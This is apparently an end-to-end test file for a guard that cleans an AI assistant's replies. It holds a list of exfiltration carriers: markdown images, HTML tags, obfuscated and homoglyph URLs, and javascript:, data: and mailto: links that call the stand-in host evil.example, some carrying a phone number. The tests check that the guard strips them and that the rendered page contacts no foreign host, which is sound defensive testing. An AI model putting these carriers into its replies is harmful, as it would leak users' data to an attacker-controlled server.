"""T04: a reply that carries data away when it is shown. It leaves no server, and asks no host."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser, expect

from gatehouse.llm.safety.replies import guard_reply, guard_shown
from tests.e2e.conftest import browser, mock_url, pretended, stage
from tests.e2e.face import face
from tests.e2e.mock import replies

__all__ = ["browser", "mock_url", "pretended", "stage"]
CARRIERS = (
    "![x](http://evil.example/?q=447911123456)",
    "![x][1]\n\n[1]: http://evil.example/?q=1",
    "[open](http://evil.example/?q=1)",
    "[open](//evil.example/?q=1)",
    "[open](javascript:fetch('http://evil.example'))",
    "<http://evil.example/?q=1>",
    "http://evil.example/?q=1",
    "www.evil.example/?q=1",
    "evil.example.com/?q=1",
    "https:\\\\evil.example/?q=1",
    "ht\u200btps://evil.ex\u200bample.com",
    "https://еvil.com/?q=1",
    "ｈｔｔｐｓ://evil.example/?q=1",
    "evil[.]com/?q=1",
    '<img src="http://evil.example/?q=1">',
    "<img src=//evil.example/x onerror=fetch('//evil.example')>",
    '<link rel="prefetch" href="http://evil.example">',
    '<link rel=dns-prefetch href="//evil.example">',
    '<style>@import "http://evil.example/a.css";</style>',
    '<div style="background:url(http://evil.example/x)">x</div>',
    "<script src=http://evil.example/x.js></script>",
    "<iframe src=http://evil.example></iframe>",
    '<object data="http://evil.example"></object>',
    '<form action="http://evil.example"><input autofocus></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "<svg><image href='http://evil.example/x'/></svg>",
    "<video src=http://evil.example/v poster=http://evil.example/p></video>",
    '<a ping="http://evil.example" href="/">here</a>',
    "&lt;img src=http://evil.example&gt;",
    "data:text/html,<script>location='http://evil.example'</script>",
    "```html\n<img src=http://evil.example>\n```",
    "mailto:thief@evil.example?body=447911123456",
)


@pytest.mark.parametrize("carrier", CARRIERS)
def test_no_carrier_leaves_in_a_reply(carrier: str) -> None:
    for guard in (guard_reply, guard_shown):
        shown = guard(f"The flat is bright. {carrier} Come and see.").text
        assert "evil" not in shown
        assert "http" not in shown


@pytest.mark.browser
def test_a_page_that_shows_them_all_the_same_asks_no_foreign_host(
    browser: Browser, mock_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(replies, "EVIL", "\n\n".join(CARRIERS))
    with face(browser, mock_url) as visitor:
        visitor.open(mock_url)
        reply = visitor.say("attack")
        expect(reply.locator(".prose").first).to_contain_text("evil.example")
        visitor.page.wait_for_load_state("networkidle")
        assert visitor.strangers == []
        assert [v for v in visitor.violations() if v.startswith(("script", "connect"))] == []


@pytest.mark.browser
def test_the_control_a_foreign_request_is_noticed(browser: Browser, mock_url: str) -> None:
    with face(browser, mock_url) as visitor:
        visitor.open(mock_url)
        visitor.page.evaluate("new Image().src = 'http://evil.example/?q=447911123456'")
        visitor.until(lambda: visitor.violations(), "the policy refuses, and that is seen")
        with pytest.raises(AssertionError):
            visitor.settle()
